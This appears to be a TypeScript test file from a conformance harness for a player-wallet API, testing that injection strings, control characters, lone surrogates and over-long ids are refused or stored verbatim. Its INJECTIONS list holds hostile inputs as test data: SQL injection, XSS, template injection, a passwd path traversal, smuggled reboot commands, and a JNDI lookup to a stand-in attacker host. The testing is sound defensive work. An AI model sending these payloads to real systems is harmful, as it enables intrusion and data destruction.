import { scenario } from '../../../src/harness/scenario.js';
import { facts, refusesSpoilt } from './spoilt-debits.js';

/** What goes wrong where text becomes SQL, HTML, a template, a format, a path, a shell, a log. */
const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE players; --",
  '" OR ""="',
  '<script>alert(1)</script>',
  '{{7*7}}${7*7}#{7*7}',
  '%s%n%x%d',
  '../../../../etc/passwd',
  '$(reboot)`reboot`|reboot;reboot',
  '=HYPERLINK("http://evil.example")',
  '${jndi:ldap://evil.example/a}',
  '*)(uid=*))(|(uid=*',
  '__proto__',
] as const;

/** Those that even an id may be. */
const IDS = ['__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', '..', '-1', '0'];

export const input01 = scenario({
  ...facts,
  id: 'INPUT-01',
  title: 'An injection is no id, in any member of a debit',
  rule: 'An id that is none MUST be refused with its field, and nothing changes.',
  impact: 'critical',
  async run(stage) {
    const spoilt = INJECTIONS.filter((text) => text !== '__proto__');
    for (const field of ['player_id', 'round_id', 'idempotency_key', 'session_id'] as const) {
      await refusesSpoilt(
        stage,
        spoilt.map((text) => ({ code: 'VALIDATION_ERROR', field, over: { [field]: text } })),
      );
    }
  },
});

export const input02 = scenario({
  ...facts,
  id: 'INPUT-02',
  title: 'An injection in a path names nobody',
  rule: 'An id in a path that is none MUST be refused with its field.',
  impact: 'critical',
  async run({ platform, given, expect }) {
    const player = await given.player({ balance: '100.00' });
    for (const text of INJECTIONS.filter((each) => each !== '__proto__')) {
      const invalid = { field: 'player_id' };
      const asked = { player_id: text };
      expect(await platform.getWallet(asked)).refused('VALIDATION_ERROR', invalid);
      expect(await platform.getPlayer(asked)).refused('VALIDATION_ERROR', invalid);
      const blocking = { ...asked, status: 'blocked', reason: 'none' };
      expect(await platform.setPlayerStatus(blocking)).refused('VALIDATION_ERROR', invalid);
    }
    expect(await platform.getPlayer(player)).accepted({ status: 'active' });
  },
});

export const input03 = scenario({
  ...facts,
  id: 'INPUT-03',
  title: 'Words that mean something to a language are just ids',
  rule: 'A well-formed id MUST be taken as it is, whatever it means elsewhere.',
  async run({ platform, given, expect }) {
    const player = await given.player({ balance: '100.00' });
    for (const text of IDS) {
      const unknown = { player_id: `${given.id('nobody')}~${text}` };
      expect(await platform.getWallet(unknown)).refused('PLAYER_NOT_FOUND');
      const debit = given.debit(player, { round_id: text, amount: '1.00' });
      expect(await platform.debitRound(debit)).accepted({ status: 'committed' });
      const { player_id, round_id } = debit;
      expect(await platform.getRound({ player_id, round_id })).accepted({ staked: '1.00' });
    }
    await expect.wallet(player, { cash: '91.00', held_in_play: '9.00' });
  },
});

export const input04 = scenario({
  ...facts,
  id: 'INPUT-04',
  title: 'A name is kept letter for letter, or refused',
  rule: 'Injection strings in a name MUST be kept verbatim or refused, and change nothing else.',
  async run({ platform, given, expect }) {
    const bystander = await given.player({ balance: '100.00' });
    for (const name of [...INJECTIONS, 'Zoë Ødegård', '李小龍', '👩‍👩‍👧', "O'Brien"]) {
      const made = await platform.createPlayer(given.registration({ name }));
      if (made.outcome === 'refused') {
        expect(made).refused('VALIDATION_ERROR', { field: 'name' });
        continue;
      }
      const { player_id } = expect(made).accepted({ name });
      expect(await platform.getPlayer({ player_id })).accepted({ name });
    }
    await expect.wallet(bystander, { cash: '100.00' });
    expect(await platform.debitRound(given.debit(bystander))).accepted({ balance: '90.00' });
  },
});

export const input05 = scenario({
  ...facts,
  id: 'INPUT-05',
  title: 'A reason is kept letter for letter in the audit log, or refused',
  rule: 'Injection strings in a reason MUST be kept verbatim or refused, and change nothing else.',
  async run({ platform, given, expect }) {
    const player = await given.player({ balance: '100.00' });
    const { player_id } = player;
    for (const reason of INJECTIONS) {
      const changed = await platform.setPlayerStatus({ player_id, status: 'blocked', reason });
      if (changed.outcome === 'refused') {
        expect(changed).refused('VALIDATION_ERROR', { field: 'reason' });
        continue;
      }
      expect(changed).accepted({ status: 'blocked' });
      const { items } = expect(await platform.listAuditEntries({ player_id, limit: 1 })).accepted();
      expect.that(reason, 'the reason').isOneOf(Object.values(items[0]?.data ?? {}));
    }
    expect(await platform.verifyAudit()).accepted({ valid: true });
    await expect.wallet(player, { cash: '100.00' });
  },
});

const CONTROLS = ['a\u0000b', 'a\nb', 'a\rb', 'a\tb', 'a\u001b[31mb', 'a\u007fb', '\u0000'];

export const input06 = scenario({
  ...facts,
  id: 'INPUT-06',
  title: 'Control characters and NUL are refused in ids',
  rule: 'Control characters in an id MUST get a clean 400 and change nothing.',
  run: (stage) =>
    refusesSpoilt(
      stage,
      CONTROLS.flatMap((text) =>
        ['player_id', 'round_id', 'idempotency_key'].map((field) => ({
          code: 'VALIDATION_ERROR' as const,
          field,
          over: { [field]: text },
        })),
      ),
    ),
});

export const input07 = scenario({
  ...facts,
  id: 'INPUT-07',
  title: 'Control characters and NUL are refused in names',
  rule: 'Control characters in a name MUST get a clean 400, and no account is opened.',
  async run({ platform, given, expect }) {
    const person = given.registration();
    for (const name of CONTROLS) {
      const refused = await platform.createPlayer({ ...person, name });
      expect(refused).refused('VALIDATION_ERROR', { field: 'name' });
    }
    const { player_id } = expect(await platform.createPlayer(person)).accepted();
    for (const name of CONTROLS) {
      const refused = await platform.updatePlayer({ player_id, name });
      expect(refused).refused('VALIDATION_ERROR', { field: 'name' });
    }
    expect(await platform.getPlayer({ player_id })).accepted({ name: person['name'] });
  },
});

export const input08 = scenario({
  ...facts,
  id: 'INPUT-08',
  title: 'Half a character is refused, or kept as it is',
  rule: 'Text with a lone surrogate MUST be kept verbatim or refused, never silently changed.',
  async run({ platform, given, expect }) {
    for (const name of ['\ud800', 'a\udfffb', '\udc00\ud800', 'Ada \ud83d']) {
      const made = await platform.createPlayer(given.registration({ name }));
      if (made.outcome === 'refused') {
        expect(made).refused(['MALFORMED_JSON', 'VALIDATION_ERROR']);
        continue;
      }
      const { player_id } = expect(made).accepted({ name });
      expect(await platform.getPlayer({ player_id })).accepted({ name });
    }
    const whole = given.registration({ name: 'Ada \ud83d\ude00' });
    expect(await platform.createPlayer(whole)).accepted({ name: 'Ada 😀' });
  },
});

const LONGEST = 'x'.repeat(128);
const TOO_LONG = 'x'.repeat(129);

export const input09 = scenario({
  ...facts,
  id: 'INPUT-09',
  title: 'An id of 128 characters is one, of 129 none',
  rule: 'Over-long ids MUST get a clean 400 and change nothing, wherever they stand.',
  async run(stage) {
    const { platform, given, expect } = stage;
    const fields = ['player_id', 'round_id', 'idempotency_key', 'session_id'];
    await refusesSpoilt(stage, [
      ...fields.flatMap((field) =>
        [TOO_LONG, 'x'.repeat(10_000)].map((text) => ({
          code: 'VALIDATION_ERROR' as const,
          field,
          over: { [field]: text },
        })),
      ),
      {
        code: 'VALIDATION_ERROR',
        field: 'Idempotency-Key',
        over: { idempotency_key: undefined },
        options: { key: TOO_LONG },
      },
    ]);
    expect(await platform.getWallet({ player_id: TOO_LONG })).refused('VALIDATION_ERROR');
    expect(await platform.getWallet({ player_id: LONGEST })).refused('PLAYER_NOT_FOUND');
    const player = await given.player({ balance: '100.00' });
    const longest = given.debit(player, { round_id: LONGEST });
    expect(await platform.debitRound(longest)).accepted({ balance: '90.00' });
  },
});

export const stringScenarios = [
  input01,
  input02,
  input03,
  input04,
  input05,
  input06,
  input07,
  input08,
  input09,
] as const;
